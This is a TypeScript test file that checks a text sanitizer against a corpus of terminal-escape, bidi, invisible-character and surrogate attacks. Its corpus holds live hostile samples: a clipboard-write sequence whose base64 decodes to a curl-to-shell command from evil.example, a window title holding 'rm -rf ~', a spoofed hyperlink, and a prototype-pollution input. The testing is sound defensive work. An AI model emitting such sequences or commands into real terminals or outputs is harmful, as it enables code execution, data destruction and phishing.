/**
 * sanitizeText / sanitizeDeep against a corpus of hostile strings (research anchors §1.2–1.3): the output
 * invariant on every entry, plus exact expectations for the cases the spec spells out.
 */
import assert from 'node:assert/strict';
import {describe, it} from 'node:test';
import {MAX_FIELD_LENGTH, sanitizeDeep, sanitizeText} from '../../src/api/sanitize.js';
import {allStrings, violations} from './sanitize-invariant.js';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** [name, payload] */
const CORPUS: ReadonlyArray<readonly [string, string]> = [
	// C0
	['NUL', 'a\u0000b'],
	['BEL', `ding${BEL}dong`],
	['backspace overwrite', 'admin\b\b\b\b\buser!'],
	['CR overwrite (kubectl)', 'ACTIVE\rDELETED'],
	['CRLF', 'line1\r\nline2'],
	['LF', 'line1\nline2'],
	['vertical tab and form feed', 'a\u000bb\u000cc'],
	['tab', 'col1\tcol2'],
	['SO/SI charset shift', 'x\u000ey\u000fz'],
	['every C0', Array.from({length: 32}, (_, i) => String.fromCharCode(i)).join('')],
	['DEL', 'a\u007fb'],
	// CSI / SGR
	['clear screen', `${ESC}[2J${ESC}[H`],
	['SGR colour (npm)', `${ESC}[31mred${ESC}[0m`],
	['cursor up and erase line', `ok${ESC}[1A${ESC}[2Kfake line`],
	['hide cursor', `${ESC}[?25l`],
	['alternate screen', `${ESC}[?1049h`],
	['device status report', `${ESC}[6n`],
	['scroll region', `${ESC}[1;1r`],
	// OSC
	['OSC 0 window title, BEL', `A${ESC}]0;pwned${BEL}B`],
	['OSC 2 window title, ST', `${ESC}]2;rm -rf ~${ST}`],
	['OSC 52 clipboard write', `${ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=${BEL}`],
	['OSC 52 clipboard read', `${ESC}]52;c;?${BEL}`],
	['OSC 8 hyperlink', `${ESC}]8;;https://evil.example/${ST}https://okta.example/${ESC}]8;;${ST}`],
	['OSC 1337 (iTerm) file', `${ESC}]1337;File=name=eA==:AAAA${BEL}`],
	['OSC 7 cwd', `${ESC}]7;file:///etc${BEL}`],
	// DCS / APC / PM / SOS and single-byte escapes
	['DCS DECRQSS', `${ESC}P$q"p${ST}`],
	['DCS tmux passthrough', `${ESC}Ptmux;${ESC}${ESC}]0;x${BEL}${ST}`],
	['APC (kitty graphics)', `${ESC}_Gf=100;AAAA${ST}`],
	['PM', `${ESC}^privacy${ST}`],
	['SOS', `${ESC}Xstring${ST}`],
	['RIS full reset', `${ESC}c`],
	['git sideband', `remote: ${ESC}[31m${ESC}]0;owned${BEL}`],
	// C1 (8-bit)
	['8-bit CSI', 'x\u009b2Jy'],
	['8-bit OSC + ST', '\u009d0;title\u009c'],
	['8-bit DCS', '\u0090q\u009c'],
	['8-bit APC', '\u009fdata\u009c'],
	['NEL', 'a\u0085b'],
	['every C1', Array.from({length: 32}, (_, i) => String.fromCharCode(0x80 + i)).join('')],
	// bidi (Trojan Source) and invisible characters
	['RLO filename', 'invoice\u202Egpj.exe'],
	['LRE PDF', 'a\u202Ab\u202Cc'],
	['RLE', 'a\u202Bb'],
	['LRO', 'a\u202Db'],
	['isolates', '\u2066admin\u2069 \u2067x\u2069 \u2068y\u2069'],
	['LRM RLM ALM', 'a\u200Eb\u200Fc\u061Cd'],
	['ZWSP in login', 'adm\u200Bin'],
	['ZWNJ and ZWJ', 'a\u200Cb\u200Dc'],
	['ZWJ between emoji', '👩\u200D💻'],
	['word joiner and invisible operators', 'a\u2060b\u2061c\u2062d\u2063e\u2064f'],
	['BOM / ZWNBSP', '\uFEFFadmin@example.com'],
	['soft hyphen', 'ad\u00ADmin'],
	['combining grapheme joiner', 'a\u034Fb'],
	['Mongolian vowel separator', 'a\u180Eb'],
	['Mongolian free variation selectors', 'a\u180B\u180C\u180D\u180Fb'],
	['Hangul fillers', '\u115F\u1160\u3164\uFFA0'],
	['line and paragraph separators', 'a\u2028b\u2029c'],
	['interlinear annotation', '\uFFF9a\uFFFAb\uFFFB'],
	['tag characters', 'flag\u{E0067}\u{E0062}\u{E007F}'],
	// lone surrogates
	['lone high surrogate', 'a\uD800b'],
	['lone low surrogate', 'a\uDC00b'],
	['reversed pair', '\uDC00\uD800'],
	['trailing high surrogate', 'end\uD83D'],
	// long strings
	['10,000 ESC', ESC.repeat(10_000)],
	['10,000 mixed', `${ESC}[31m\r\u202E\u200B\u009b\uD800`.repeat(1_429).slice(0, 10_000)],
	['10,000 OSC titles', `${ESC}]0;x${BEL}`.repeat(2_000).slice(0, 10_000)],
	['10,000 plain then ESC', 'a'.repeat(9_999) + ESC],
];

describe('the corpus', () => {
	it('has at least 40 hostile strings', () => {
		assert.ok(CORPUS.length >= 40, `${CORPUS.length}`);
		assert.equal(new Set(CORPUS.map(([name]) => name)).size, CORPUS.length, 'names are unique');
	});

	for (const [name, payload] of CORPUS) {
		it(`${name}: no ESC, C0, C1, bidi, zero-width or lone surrogate survives`, () => {
			const out = sanitizeText(payload);
			assert.deepEqual(violations(out), []);
			assert.ok(!out.includes(ESC) && !out.includes('\u009b'));
			const multi = sanitizeText(payload, {multiline: true});
			assert.deepEqual(violations(multi, {multiline: true}), []);
			// Escaping is stable: the output is already safe text.
			assert.equal(sanitizeText(out), out);
			// Nothing is silently stripped: there is at least one visible unit per input code point, or a long value
			// is cut at MAX_FIELD_LENGTH with a mark that says how much was left out.
			if (out.length > MAX_FIELD_LENGTH) assert.match(out, /…\[\+[\d,]+ more\]$/);
			else assert.ok(out.length >= [...payload].length, 'escaped, not stripped');
		});
	}

	it('the whole corpus through sanitizeDeep, as values and as keys', () => {
		const asValues = CORPUS.map(([name, payload]) => ({name, payload, nested: [[payload]]}));
		const asKeys = Object.fromEntries(CORPUS.map(([name, payload]) => [payload, name]));
		const out = sanitizeDeep({asValues, asKeys});
		const strings = allStrings(out);
		assert.ok(strings.length >= CORPUS.length * 4);
		for (const s of strings) assert.deepEqual(violations(s), [], JSON.stringify(s).slice(0, 200));
	});
});

describe('exact expectations', () => {
	const cases: ReadonlyArray<readonly [string, string]> = [
		['A\u001b]0;pwned\u0007B', 'A␛]0;pwned^GB'],
		['ACTIVE\rDELETED', 'ACTIVE^MDELETED'],
		['adm\u200Bin', 'adm⟨U+200B⟩in'],
		['x\u009b2Jy', 'x⟨U+009B⟩2Jy'],
		['\u001b[2J', '␛[2J'],
		['a\u0000b', 'a^@b'],
		['a\u007fb', 'a⟨U+007F⟩b'],
		['col1\tcol2', 'col1 col2'],
		['invoice\u202Egpj.exe', 'invoice⟨U+202E⟩gpj.exe'],
		['\u2066x\u2069', '⟨U+2066⟩x⟨U+2069⟩'],
		['\uFEFFadmin', '⟨U+FEFF⟩admin'],
		['a\u2028b', 'a⟨U+2028⟩b'],
		['a\uD800b', 'a\uFFFDb'],
		['\uDC00\uD800', '\uFFFD\uFFFD'],
		['flag\u{E0067}', 'flag⟨U+E0067⟩'],
		// A ZWJ emoji sequence shows its joiner: identity fields must show every invisible character (§1.3.5).
		['👩\u200D💻', '👩⟨U+200D⟩💻'],
	];
	for (const [input, expected] of cases) {
		it(`${JSON.stringify(input)} → ${JSON.stringify(expected)}`, () => {
			assert.equal(sanitizeText(input), expected);
		});
	}

	it('newlines become ^J unless multiline', () => {
		assert.equal(sanitizeText('a\nb'), 'a^Jb');
		assert.equal(sanitizeText('a\nb', {multiline: true}), 'a\nb');
		assert.equal(sanitizeText('a\r\nb', {multiline: true}), 'a^M\nb');
	});

	const unchanged = [
		'',
		'plain ASCII: jane.doe+test@example.com ~!@#$%^&*()_+{}|:"<>?`-=[]\\;\',./',
		'Zoë Łukasz 李',
		'José Müller-Øster Ñandú Çağrı Đorđe',
		'Ελληνικά Кириллица עברית العربية हिन्दी ไทย',
		'中文 日本語 한국어 ＦＵＬＬＷＩＤＴＨ',
		'🙂🚀👍🏽🇫🇷❤️',
		'𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠀋',
		'x'.repeat(MAX_FIELD_LENGTH),
	];
	for (const text of unchanged) {
		it(`leaves ${JSON.stringify(text.slice(0, 40))} unchanged`, () => {
			assert.equal(sanitizeText(text), text);
			assert.equal(sanitizeText(text, {multiline: true}), text);
		});
	}
});

describe('the length cap', () => {
	it('cuts a long value at MAX_FIELD_LENGTH and says how many characters were left out', () => {
		const out = sanitizeText('x'.repeat(10_000));
		assert.equal(out, 'x'.repeat(MAX_FIELD_LENGTH) + '…[+9,000 more]');
	});

	it('counts escapes in the length, so 10,000 zero-width spaces stay short', () => {
		const out = sanitizeText('\u200B'.repeat(10_000));
		assert.ok(out.length < MAX_FIELD_LENGTH + 20, `${out.length}`);
		assert.ok(out.startsWith('⟨U+200B⟩⟨U+200B⟩'));
		assert.match(out, /…\[\+9,8\d\d more\]$/);
	});

	it('never splits a surrogate pair and is stable when applied twice', () => {
		const out = sanitizeText('x' + '😀'.repeat(2_000));
		assert.ok(!/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/.test(out), 'no lone high surrogate');
		assert.equal(sanitizeText(out), out);
		assert.equal(sanitizeText('a'.repeat(MAX_FIELD_LENGTH + 1)), 'a'.repeat(MAX_FIELD_LENGTH) + '…[+1 more]');
	});
});

describe('sanitizeDeep', () => {
	it('sanitizes values and keys at any depth and keeps other values', () => {
		const input = {
			'k\u001b[1m': 'v\r',
			list: ['a\u0007', 1, true, null, {deep: [['x\u202Ey']]}],
			n: 42,
			f: false,
			z: null,
		};
		const frozen = JSON.stringify(input);
		assert.deepEqual(sanitizeDeep(input), {
			'k␛[1m': 'v^M',
			list: ['a^G', 1, true, null, {deep: [['x⟨U+202E⟩y']]}],
			n: 42,
			f: false,
			z: null,
		});
		assert.equal(JSON.stringify(input), frozen, 'the input is not mutated');
	});

	it('passes scalars through', () => {
		assert.equal(sanitizeDeep('a\u0007'), 'a^G');
		assert.equal(sanitizeDeep(7), 7);
		assert.equal(sanitizeDeep(null), null);
		assert.equal(sanitizeDeep(undefined), undefined);
		assert.deepEqual(sanitizeDeep([]), []);
		assert.deepEqual(sanitizeDeep({}), {});
	});

	it('keeps a "__proto__" key from JSON as plain data, never as the prototype', () => {
		const parsed: unknown = JSON.parse('{"__proto__": {"isAdmin": true}, "name": "x"}');
		const out = sanitizeDeep(parsed) as Record<string, unknown>;
		assert.equal(Object.getPrototypeOf(out), Object.prototype);
		assert.equal((out as {isAdmin?: unknown}).isAdmin, undefined);
		assert.ok(Object.hasOwn(out, '__proto__'));
		assert.deepEqual(Object.keys(out), ['__proto__', 'name']);
	});
});
